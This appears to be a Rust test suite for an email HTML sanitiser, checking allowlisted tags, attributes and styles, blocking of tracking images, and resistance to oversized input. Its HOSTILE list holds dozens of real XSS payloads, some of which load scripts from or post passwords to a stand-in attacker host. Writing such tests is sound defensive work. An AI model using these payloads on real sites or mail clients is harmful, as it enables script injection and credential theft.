//! HTML of people who want something: none of it runs, loads, sends, covers or hides anything.

use std::time::{Duration, Instant};

use orbit_adapters::mime::{Images, sanitise};
use proptest::prelude::*;

fn cid(id: &str) -> Option<String> {
    (id == "rose@garden.example").then(|| "/api/v1/emails/7/parts/1.2?a=1&b=\"2\"".to_owned())
}

fn clean(html: &str) -> String {
    sanitise(html, Images::Block, &cid).html
}

/// What must be in no tag of what is shown.
fn assert_harmless(html: &str, from: &str) {
    let lower = html.to_ascii_lowercase();
    // Tags as a simple reader finds them: the sanitiser writes each `<` of a text as `&lt;`.
    for tag in lower.split('<').skip(1) {
        let tag = tag.split_once('>').unwrap_or_else(|| panic!("{from}: a tag that does not end in {html}")).0;
        let name = tag.trim_start_matches('/').split_whitespace().next().unwrap_or_default();
        let known = "a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del div dl dt em font \
            h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table tbody td tfoot \
            th thead tr u ul";
        assert!(known.split_whitespace().any(|known| known == name), "{from}: <{name}> in {html}");
        // Outside of values, which are quoted.
        let outside: String = tag.split('"').step_by(2).collect();
        for attribute in outside.split_whitespace().skip(1).map(|text| text.trim_end_matches('=')) {
            let known = "href src data-blocked-src alt title style align valign bgcolor width height border cellpadding \
                cellspacing colspan rowspan nowrap color face size dir lang start type span scope summary hspace vspace rel \
                target";
            assert!(known.split_whitespace().any(|known| known == attribute), "{from}: {attribute} in {html}");
        }
        for (value, nth) in tag.split('"').zip(0..).filter(|(_, nth)| nth % 2 == 1) {
            let attribute = tag.split('"').nth(nth - 1).unwrap_or_default().trim_end_matches('=');
            let attribute = attribute.rsplit(' ').next().unwrap_or_default();
            let fine: &[&str] = match attribute {
                "href" => &["http://", "https://", "mailto:"],
                "src" => &["/api/v1/emails/", "data:image/png;base64,", "data:image/gif;base64,"],
                _ => &[""],
            };
            assert!(fine.iter().any(|begin| value.starts_with(begin)), "{from}: {attribute}={value}");
            if attribute == "style" {
                // What is in quotes is a name.
                let value: String = value.split("&quot;").step_by(2).collect();
                for word in ["url", "expression", "position", "import", "behavior", "-moz-binding", "\\", "@", "<"] {
                    assert!(!value.contains(word), "{from}: {value}");
                }
            }
        }
    }
}

const HOSTILE: [&str; 62] = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror = 'alert(1)'/>",
    "<IMG SRC=javascript:alert('x')>",
    "<img src=\"jav\tascript:alert(1)\">",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:x onerror=alert(1)//",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"/api/v1/me\">x</a>",
    "<a href=\"https://fine.example\" target=_self onclick=alert(1) ping=http://evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"><param name=x></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\"><a href=x>y</a>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input type=image src=https://evil.example/x onfocus=alert(1) autofocus>",
    "<video poster=https://evil.example/x><source src=https://evil.example/y onerror=alert(1)></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<body background=https://evil.example/x onload=alert(1)>hello</body>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>z</td></table>",
    "<style>@import 'https://evil.example/x.css'; body { background: url(https://evil.example) }</style>",
    "<div style=\"background:url(https://evil.example/x)\">x</div>",
    "<div style=\"background-image:url('https://evil.example/x');color:red\">x</div>",
    "<div style=\"width: expression(alert(1)); color: red\">x</div>",
    "<div style=\"color:\\75rl(https://evil.example)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">pay here</div>",
    "<div style=\"margin-top:-1000px;text-indent:-9999px\">x</div>",
    "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#y)\">x</div>",
    "<div style=\"font-family:'a;position:fixed'\">x</div>",
    "<p style='color:red;}</style><script>alert(1)</script>'>x</p>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>'; ?>",
    "<a href=\"https://fine.example/\" style=\"color:red\" id=x name=y class=z data-x=1>x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<div \u{0}onclick=alert(1) o\u{0}nclick=alert(1)>x\u{0}<\u{0}script>y</div>",
    "<p/onclick=alert(1)/style=color:red>x<b/onmouseover=alert(1)>y",
];

#[test]
fn nothing_hostile_is_left_of_hostile_html() {
    for html in HOSTILE {
        for images in [Images::Block, Images::Show] {
            let once = sanitise(html, images, &cid).html;
            assert_harmless(&once, html);
            // What a browser made of it, were it read again, is as harmless.
            assert_harmless(&sanitise(&once, images, &cid).html, html);
        }
    }
}

#[test]
fn what_was_said_is_still_said() {
    for (html, expected) in [
        ("<b>bold</b> &amp; <i>slanted", "<b>bold</b> &amp; <i>slanted</i>"),
        (
            "<a href=https://fine.example/?a=1&amp;b=2>x</a>",
            "<a href=\"https://fine.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ),
        (
            "<p STYLE='COLOR: red; position: fixed; text-align:center'>x",
            "<p style=\"color:red;text-align:center\">x</p>",
        ),
        ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
        (
            "<table border=1 class=x><tr><td width=50% bgcolor=#eee>1<td>2</table>",
            "<table border=\"1\"><tbody><tr><td width=\"50%\" bgcolor=\"#eee\">1</td><td>2</td></tr></tbody></table>",
        ),
        ("<html><head><title>no</title></head><body>yes</body></html>", "yes"),
        ("1 < 2 <3", "1 &lt; 2 &lt;3"),
        ("<form>text in <button>a form</button></form>", "text in a form"),
        ("", ""),
    ] {
        assert_eq!(clean(html), expected, "{html}");
    }
}

#[test]
fn images_from_elsewhere_are_kept_out_and_counted_until_they_are_wanted() {
    let html = "<img src=\"https://track.example/1.gif?u=2&amp;v=3\" width=1><img src=http://track.example/2.gif>\
        <img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"><img alt=none>";
    let blocked = sanitise(html, Images::Block, &cid);
    assert_eq!(blocked.blocked, 2);
    assert_eq!(
        blocked.html,
        "<img data-blocked-src=\"https://track.example/1.gif?u=2&amp;v=3\" width=\"1\">\
         <img data-blocked-src=\"http://track.example/2.gif\">\
         <img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"><img alt=\"none\">"
    );
    let shown = sanitise(html, Images::Show, &cid);
    assert_eq!(shown.blocked, 1, "over HTTP everybody on the way would see what is read");
    assert!(
        shown.html.starts_with("<img src=\"https://track.example/1.gif?u=2&amp;v=3\" width=\"1\"><img data-blocked")
    );
    let large = format!("<img src=\"data:image/png;base64,{}\">", "A".repeat(110_000));
    assert_eq!(clean(&large), "<img>");
}

#[test]
fn images_of_the_message_itself_are_found_by_their_id() {
    let found = "<img src=\"/api/v1/emails/7/parts/1.2?a=1&amp;b=&quot;2&quot;\">";
    for html in [
        "<img src=cid:rose@garden.example>",
        "<img src='CID:rose%40garden.example'>",
        "<img src=cid:rose&#64;garden.example>",
    ] {
        assert_eq!(clean(html), found, "{html}");
    }
    assert!(!clean("<img src=cid:nobody@garden.example>").contains("src"));
}

#[test]
fn what_looks_like_our_marks_is_text() {
    let html = "x src=\"orbit:https://evil.example\" <b title='src=\"orbit:cid:x\"'>y</b>";
    assert_harmless(&clean(html), html);
    assert!(clean(html).starts_with("x src=\"orbit:https://evil.example\""));
}

#[test]
fn two_megabytes_of_anything_take_no_longer_than_a_page_may() {
    let many = |piece: &str| piece.repeat(2 * 1024 * 1024 / piece.len());
    let formats = (0..20_000).map(|n| format!("<font color=c{n}>")).collect::<Vec<_>>().concat();
    for (what, html) in [
        ("deep", many("<div>")),
        ("unclosed formatting", formats + &many("<p>x")),
        ("formatting out of cells", many("<font color=1><table><td></font></table>")),
        ("misnested", many("<b><i></b>")),
        ("links in links", many("<a href=https://x.example>")),
        ("attributes", format!("<p {}>", many("title=x "))),
        ("entities", many("&amp")),
        ("less than", many("<")),
        ("comments", many("<!--")),
        ("quotes", many("<p title=\"")),
        ("tables", many("<table>")),
        ("text in tables", many("<table>x")),
        ("words with signs", many("&amp;§ ")),
        ("signs between cells", "<table>".to_owned() + &many(&format!("<tr>{}", "&§".repeat(300)))),
        ("signs in what is too deep", "<i>".repeat(200) + &many(&format!("<b>{}", "&§".repeat(300)))),
        ("attributes of signs", many(&format!("<p title='{}'>", "&§".repeat(1_000)))),
    ] {
        let begun = Instant::now();
        let clean = sanitise(&html, Images::Block, &cid).html;
        assert!(begun.elapsed() < Duration::from_secs(10), "{what}: {:?}", begun.elapsed());
        assert!(clean.len() < 40 * 1024 * 1024, "{what}: {} bytes", clean.len());
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn nothing_hostile_is_left_of_what_is_put_together_of_it(
        pieces in prop::collection::vec(prop_oneof![
            prop::sample::select(HOSTILE.to_vec()).prop_map(str::to_owned),
            "[<>/\"'= a-z:!-]{0,12}",
        ], 0..8),
        cut in any::<prop::sample::Index>(),
    ) {
        let html = pieces.concat();
        let html = &html[html.floor_char_boundary(cut.index(html.len() + 1))..];
        assert_harmless(&clean(html), html);
    }
}
